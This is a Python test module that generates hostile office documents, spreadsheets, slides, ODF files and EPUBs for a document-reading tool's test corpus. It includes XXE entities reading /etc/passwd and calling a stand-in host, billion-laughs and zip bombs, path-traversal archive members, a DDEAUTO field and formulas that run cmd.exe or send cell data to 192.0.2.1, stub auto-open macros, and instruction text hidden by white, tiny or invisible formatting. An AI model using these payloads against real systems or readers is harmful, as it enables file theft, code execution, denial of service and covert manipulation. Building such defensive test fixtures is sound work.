"""Office files that swell, loop, hide or call."""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpus import producers as by
from tests.corpus.attack import ORDER, SHOWN, Attack, bomb, laughs, member, packed, repacked
from tests.corpus.writings import Listing, Writing

_PAPER = Writing("規程", "旅費規程", (SHOWN,))
_TABLE = Listing("表", "表", (("項目", "内容"), ("規程", SHOWN)))
_W = "word/document.xml"
_S = "xl/worksheets/sheet1.xml"
_P = "ppt/slides/slide2.xml"
_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"


def attacks() -> Iterator[Attack]:
    for kind, made in (
        ("word", _word()),
        ("sheet", _sheet()),
        ("slides", _slides()),
        ("open", _open()),
    ):
        for name, tries, data, hidden in made:
            yield Attack(f"{kind}/{name}", tries, data, SHOWN, ORDER if hidden else "")


def _changed(data: bytes, name: str, *turns: tuple[str, str]) -> bytes:
    text = member(data, name).decode()
    for old, new in turns:
        assert old in text, (name, old)
        text = text.replace(old, new, 1)
    return repacked(data, {name: text.encode()})


def _word() -> Iterator[tuple[str, str, bytes, bool]]:
    good = by.word(_PAPER)
    end = "<w:sectPr"

    def added(text: str) -> bytes:
        return _changed(good, _W, (end, text + end))

    def run(look: str, text: str = ORDER) -> str:
        return f"<w:p><w:r><w:rPr>{look}</w:rPr><w:t>{text}</w:t></w:r></w:p>"

    yield "隠し文字.docx", "a run that is set hidden", added(run("<w:vanish/>")), True
    yield "白い文字.docx", "white letters", added(run('<w:color w:val="FFFFFF"/>')), True
    yield "極小.docx", "letters of half a point", added(run('<w:sz w:val="1"/>')), True
    yield (
        "消した文.docx",
        "an order in a deletion that was tracked",
        added(
            f'<w:p><w:del w:id="1" w:author="a"><w:r><w:delText>{ORDER}</w:delText></w:r></w:del></w:p>'
        ),
        True,
    )
    swelling = bomb(120, _W, b"<w:p/>  ")
    yield "爆弾.docx", "120 MB of empty paragraphs", repacked_large(good, swelling), False
    xml = member(good, _W).decode()
    head, _, body = xml.partition("?>")
    yield (
        "億笑.docx",
        "entities that unfold to ten thousand million",
        repacked(
            good,
            {
                _W: f"{head}?>{laughs()}{body}".replace(
                    end, f"<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>{end}", 1
                ).encode()
            },
        ),
        False,
    )
    outside = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://192.0.2.1/y"> %y;]>'
    yield (
        "外の実体.docx",
        "an entity from a file of the machine",
        repacked(
            good,
            {
                _W: f"{head}?>{outside}{body}".replace(
                    end, f"<w:p><w:r><w:t>&x;</w:t></w:r></w:p>{end}", 1
                ).encode()
            },
        ),
        False,
    )
    row, close = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    yield (
        "深い表.docx",
        "tables in tables, five thousand deep",
        added(row * 5000 + close * 5000),
        False,
    )
    yield (
        "命令欄.docx",
        "a field that starts a program",
        added(
            '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>開く</w:t></w:r></w:fldSimple></w:p>'
        ),
        False,
    )
    yield (
        "マクロ.docm",
        "a macro that runs when opened",
        repacked(
            good,
            {
                "word/vbaProject.bin": b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1AutoOpen Shell("cmd")'
                + b"\0" * 600
            },
        ),
        False,
    )
    yield (
        "路.docx",
        "members whose names climb out",
        repacked(good, {"../../../tmp/kura-evil": b"x", "word/../../../etc/passwd": b"y"}),
        False,
    )
    style = '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
    looped = _changed(good, "word/styles.xml", ("</w:styles>", style))
    yield (
        "様式循環.docx",
        "two styles, each based on the other",
        _changed(looped, _W, (end, f'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr></w:p>{end}')),
        False,
    )
    old = by.soffice({"規程.docx": good}, "doc")["規程"]
    yield (
        "切れた.doc",
        "a Word 97 file of which the second half is missing",
        old[: len(old) // 2],
        False,
    )
    at = 512 + 0x1A2  # of the header block that begins after the first sector
    yield (
        "嘘の長さ.doc",
        "a Word 97 file whose piece table is as long as it likes",
        old[:at] + b"\xff\xff\xff\x7f" * 4 + old[at + 16 :],
        False,
    )
    yield (
        "循環.doc",
        "a compound file whose sectors lead to themselves",
        old[:76] + b"\0\0\0\0" * 100 + old[476:],
        False,
    )


def repacked_large(good: bytes, swelling: bytes) -> bytes:
    """`good` with the one member of `swelling`, without holding it unfolded twice."""
    import io
    import zipfile

    out = io.BytesIO(swelling)
    with (
        zipfile.ZipFile(io.BytesIO(good)) as old,
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as new,
    ):
        held = set(new.namelist())
        for info in old.infolist():
            if info.filename not in held:
                new.writestr(info, old.read(info))
    return out.getvalue()


def _sheet() -> Iterator[tuple[str, str, bytes, bool]]:
    good = by.excel(_TABLE)
    end = "</sheetData>"

    def added(text: str) -> bytes:
        return _changed(good, _S, (end, text + end))

    def told(text: str, row: int = 20, more: str = "") -> str:
        return f'<row r="{row}"><c r="A{row}" t="inlineStr"{more}><is><t>{text}</t></is></c></row>'

    yield (
        "遠い角.xlsx",
        "one cell in the farthest corner",
        added('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        False,
    )
    yield (
        "嘘の番地.xlsx",
        "a cell without its place, after one at the end of the world",
        added('<row r="1048576"><c r="XFD1048576"/><c><v>1</v></c></row>'),
        False,
    )
    yield (
        "爆弾.xlsx",
        "120 MB of cells without value",
        repacked_large(good, bomb(120, "xl/sharedStrings.xml", b"<si><t/></si>   ")),
        False,
    )
    text = member(good, _S).decode()
    yield (
        "億笑.xlsx",
        "entities that unfold to ten thousand million",
        repacked(
            good,
            {
                _S: (laughs() + text.partition("?>")[2] if "?>" in text else laughs() + text)
                .replace(end, told("&e11;") + end, 1)
                .encode()
            },
        ),
        False,
    )
    formula = '<row r="20"><c r="A20"><f>WEBSERVICE("http://192.0.2.1/"&amp;B5)</f><v>0</v></c><c r="B20"><f>cmd|"/c calc"!A1</f><v>1</v></c></row>'
    yield "呼ぶ式.xlsx", "formulas that call an address and a program", added(formula), False
    merged = (
        '<mergeCells count="3000">'
        + "".join(f'<mergeCell ref="A{n}:XFD1048576"/>' for n in range(1, 3001))
        + "</mergeCells>"
    )
    yield (
        "結合の山.xlsx",
        "three thousand merged fields, each the whole sheet",
        _changed(good, _S, (end, end + merged)),
        False,
    )
    book = by.workbook("表")
    book.active["A1"] = SHOWN
    secret = book.create_sheet("裏")
    secret["A1"] = ORDER
    secret.sheet_state = "veryHidden"
    yield "隠しシート.xlsx", "a sheet that Excel's menu does not show", by.book_bytes(book), True
    book = by.workbook("表")
    book.active["A1"] = SHOWN
    book.active["A9"] = ORDER
    book.active.row_dimensions[9].hidden = True
    yield "隠し行.xlsx", "a hidden row", by.book_bytes(book), True
    from openpyxl.styles import Font

    book = by.workbook("表")
    book.active["A1"] = SHOWN
    book.active["A9"] = ORDER
    book.active["A9"].font = Font(color="FFFFFFFF", size=1)
    yield "白い文字.xlsx", "white letters of one point", by.book_bytes(book), True
    codes = _changed(
        good,
        "xl/styles.xml",
        (
            "<cellXfs",
            '<numFmts count="1"><numFmt numFmtId="200" formatCode="'
            + "[&lt;1]" * 20_000
            + '"/></numFmts><cellXfs',
        ),
    )
    yield "長い書式.xlsx", "a number format of a hundred thousand letters", codes, False
    yield (
        "無い文字列.xlsx",
        "strings that are not in the table",
        added(
            '<row r="20"><c r="A20" t="s"><v>4294967295</v></c><c r="B20" t="s"><v>-1</v></c></row>'
        ),
        False,
    )
    yield (
        "マクロ.xlsm",
        "a macro that runs when opened",
        repacked(good, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Workbook_Open" + b"\0" * 600}),
        False,
    )
    old = by.soffice({"表.xlsx": good}, "xls")["表"]
    yield (
        "切れた.xls",
        "an Excel 97 file of which the second half is missing",
        old[: len(old) // 2],
        False,
    )
    yield (
        "循環.xls",
        "a compound file whose sectors lead to themselves",
        old[:76] + b"\0\0\0\0" * 100 + old[476:],
        False,
    )


def _slides() -> Iterator[tuple[str, str, bytes, bool]]:
    good = by.slides(Writing("提案", "提案", ("# 規程", SHOWN)))
    end = "</p:spTree>"

    def shape(text: str, look: str = "", place: str = "0") -> str:
        return (
            '<p:sp><p:nvSpPr><p:cNvPr id="90" name="t"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm>'
            f'<a:off x="{place}" y="0"/><a:ext cx="99" cy="99"/></a:xfrm></p:spPr><p:txBody><a:bodyPr/>'
            f"<a:p><a:r><a:rPr {look}</a:rPr><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"
        )

    def added(text: str) -> bytes:
        return _changed(good, _P, (end, text + end))

    white = '><a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill>'
    yield "白い文字.pptx", "white letters on a white slide", added(shape(ORDER, white)), True
    yield "極小.pptx", "letters of one point", added(shape(ORDER, 'sz="100">')), True
    yield "枠の外.pptx", "a box beside the slide", added(shape(ORDER, ">", "-99999999")), True
    yield (
        "隠しスライド.pptx",
        "a slide that is not shown",
        _changed(added(shape(ORDER, ">")), _P, ("<p:sld ", '<p:sld show="0" ')),
        True,
    )
    group = '<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name="g"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
    yield (
        "深い群.pptx",
        "groups in groups, five thousand deep",
        added(group * 5000 + "</p:grpSp>" * 5000),
        False,
    )
    yield (
        "億笑.pptx",
        "entities that unfold to ten thousand million",
        repacked(
            good,
            {
                _P: (laughs() + member(good, _P).decode().partition("?>")[2])
                .replace(end, shape("&e11;", ">") + end, 1)
                .encode()
            },
        ),
        False,
    )
    yield (
        "爆弾.pptx",
        "120 MB in one slide",
        repacked_large(good, bomb(120, _P, b"<p:sp/>   ")),
        False,
    )
    listed = member(good, "ppt/presentation.xml").decode()
    one = listed[listed.index("<p:sldId ") : listed.index("/>", listed.index("<p:sldId ")) + 2]
    yield (
        "同じ頁一万.pptx",
        "ten thousand times the same slide",
        repacked(good, {"ppt/presentation.xml": listed.replace(one, one * 10_000, 1).encode()}),
        False,
    )
    rels = member(good, "ppt/slides/_rels/slide2.xml.rels").decode()
    far = '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://192.0.2.1/a.png" TargetMode="External"/><Relationship Id="rId91" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/notesSlide" Target="../../../../../../etc/passwd"/></Relationships>'
    yield (
        "外の絵.pptx",
        "a picture at an address, notes in a file of the machine",
        repacked(
            good,
            {"ppt/slides/_rels/slide2.xml.rels": rels.replace("</Relationships>", far).encode()},
        ),
        False,
    )
    old = by.soffice({"提案.pptx": good}, "ppt")["提案"]
    small = old[: len(old) // 8]
    yield "切れた.ppt", "a PowerPoint 97 file that ends early", small, False


def _open() -> Iterator[tuple[str, str, bytes, bool]]:
    def made(kind: str, body: str, styles: str = "", before: str = "") -> bytes:
        spaces = " ".join(
            f'xmlns:{n}="{_OFFICE}{u}:1.0"'
            for n, u in (
                ("office", "office"),
                ("text", "text"),
                ("table", "table"),
                ("style", "style"),
            )
        )
        fo = 'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"'
        xml = f'<?xml version="1.0" encoding="UTF-8"?>{before}<office:document-content {spaces} {fo}><office:automatic-styles>{styles}</office:automatic-styles><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>'
        full = f"application/vnd.oasis.opendocument.{kind}"
        manifest = f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{_OFFICE}manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="{full}"/></manifest:manifest>'
        return packed({"mimetype": full, "content.xml": xml, "META-INF/manifest.xml": manifest})

    shown = f"<text:p>{SHOWN}</text:p>"
    cell = f"<table:table-row><table:table-cell>{shown}</table:table-cell></table:table-row>"

    def sheet(rows: str) -> bytes:
        return made("spreadsheet", f'<table:table table:name="表">{cell}{rows}</table:table>')

    yield (
        "繰返し.ods",
        "a cell a million times a million",
        sheet(
            '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000000"><text:p>爆</text:p></table:table-cell></table:table-row>'
        ),
        False,
    )
    yield (
        "負の繰返し.ods",
        "a cell minus one times",
        sheet(
            '<table:table-row table:number-rows-repeated="-1"><table:table-cell table:number-columns-repeated="99999999999999999999"><text:p>爆</text:p></table:table-cell></table:table-row>'
        ),
        False,
    )
    yield (
        "空白.odt",
        "a thousand million spaces",
        made("text", f'{shown}<text:p>あ<text:s text:c="1000000000"/>い</text:p>'),
        False,
    )
    yield (
        "億笑.odt",
        "entities that unfold to ten thousand million",
        made("text", f"{shown}<text:p>&e11;</text:p>", before=laughs()),
        False,
    )
    yield (
        "外の実体.odt",
        "an entity from a file of the machine",
        made(
            "text",
            f"{shown}<text:p>&x;</text:p>",
            before='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        ),
        False,
    )
    yield (
        "深い節.odt",
        "sections in sections, twenty thousand deep",
        made("text", shown + "<text:section>" * 20_000 + "</text:section>" * 20_000),
        False,
    )
    white = '<style:style style:name="T1" style:family="text"><style:text-properties fo:color="#ffffff"/></style:style>'
    yield (
        "白い文字.odt",
        "white letters",
        made(
            "text",
            f'{shown}<text:p><text:span text:style-name="T1">{ORDER}</text:span></text:p>',
            white,
        ),
        True,
    )
    none = '<style:style style:name="T1" style:family="text"><style:text-properties text:display="none"/></style:style>'
    yield (
        "表示なし.odt",
        "a run that is not displayed",
        made(
            "text",
            f'{shown}<text:p><text:span text:style-name="T1">{ORDER}</text:span></text:p>',
            none,
        ),
        True,
    )
    yield (
        "様式循環.odt",
        "two styles, each the parent of the other",
        made(
            "text",
            f'{shown}<text:p text:style-name="A">あ</text:p>',
            '<style:style style:name="A" style:family="paragraph" style:parent-style-name="B"/><style:style style:name="B" style:family="paragraph" style:parent-style-name="A"/>',
        ),
        False,
    )
    yield (
        "爆弾.odt",
        "120 MB of empty paragraphs",
        repacked_large(made("text", shown), bomb(120, "content.xml", b"<text:p/>       ")),
        False,
    )
    container = '<container><rootfiles><rootfile full-path="../../../../etc/passwd" media-type="application/oebps-package+xml"/><rootfile full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    spine = '<itemref idref="c"/>' * 50_000
    opf = f'<package><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest><spine>{spine}</spine></package>'
    chapter = f"<html><body><p>{SHOWN}</p></body></html>"
    yield (
        "路.epub",
        "a book whose contents lie outside it",
        packed(
            {
                "mimetype": "application/epub+zip",
                "META-INF/container.xml": container,
                "a.opf": opf,
                "c.xhtml": chapter,
            }
        ),
        False,
    )
    looped = container.replace(
        '<rootfile full-path="../../../../etc/passwd" media-type="application/oebps-package+xml"/>',
        "",
    )
    yield (
        "同じ章五万.epub",
        "fifty thousand times the same chapter",
        packed(
            {
                "mimetype": "application/epub+zip",
                "META-INF/container.xml": looped,
                "a.opf": opf,
                "c.xhtml": chapter,
            }
        ),
        False,
    )
